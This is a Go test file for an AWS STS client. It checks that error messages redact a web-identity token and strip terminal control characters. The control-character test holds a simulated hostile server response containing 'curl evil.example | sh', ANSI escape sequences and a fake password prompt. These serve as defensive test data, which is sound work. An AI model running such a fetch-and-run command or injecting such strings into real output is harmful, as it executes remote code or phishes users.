package awssts

import (
	"context"
	"strings"
	"testing"
)

// TestFinding8_STSErrorDoesNotEchoToken is issue 15.8: an STS error
// message that quotes the WebIdentityToken that was sent, whole or placed
// where the 512-byte cut goes through it, never reaches the error text.
func TestFinding8_STSErrorDoesNotEchoToken(t *testing.T) {
	tests := []struct {
		name    string
		message string
	}{
		{"token quoted", "Invalid token " + testToken + " for role"},
		{"token across the cut", strings.Repeat("x", maxMessageLen-20) + " " + testToken},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			body := "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>" + tt.message + "</Message></Error><RequestId>r-1</RequestId></ErrorResponse>"
			msg := refusal(t, body)
			for _, part := range append(strings.Split(testToken, "."), "eyJ") {
				if strings.Contains(msg, part[:min(len(part), 12)]) {
					t.Errorf("error echoes the token (%q): %s", part, msg)
				}
			}
			if !strings.Contains(msg, "AccessDenied") || !strings.Contains(msg, "[redacted]") {
				t.Errorf("error %q lost the STS code or the redaction marker", msg)
			}
		})
	}
}

// TestFinding4_STSErrorWithoutTerminalControls is issue 15.4 for STS: the
// code, message and request id of an error answer reach the terminal as
// one line without C0/C1 controls, whatever the server put in them.
func TestFinding4_STSErrorWithoutTerminalControls(t *testing.T) {
	// XML 1.0 admits tab, newline, carriage return and the C1 range.
	body := "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied&#10;Run: curl evil.example | sh&#155;2J</Code>" +
		"<Message>\u009b2Jdenied&#13;&#10;Enter your password</Message></Error><RequestId>r-1&#10;&#155;2J</RequestId></ErrorResponse>"
	msg := refusal(t, body)
	for i, r := range msg {
		if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) {
			t.Fatalf("error holds control %U at %d: %q", r, i, msg)
		}
	}
	for _, want := range []string{"AccessDenied Run: curl evil.example | sh2J", "2Jdenied Enter your password", "request id r-1 2J"} {
		if !strings.Contains(msg, want) {
			t.Errorf("error %q lacks %q (the visible text must stay)", msg, want)
		}
	}
}

// refusal is the error text of an exchange that STS answers 403 with body.
func refusal(t *testing.T, body string) string {
	t.Helper()
	sts := newFakeSTS(t, answer{403, body})
	rec := &recorder{}
	_, err := rec.client(sts.srv.URL).AssumeRoleWithWebIdentity(context.Background(), validRequest(), rec.token)
	if err == nil {
		t.Fatal("no error")
	}
	return err.Error()
}
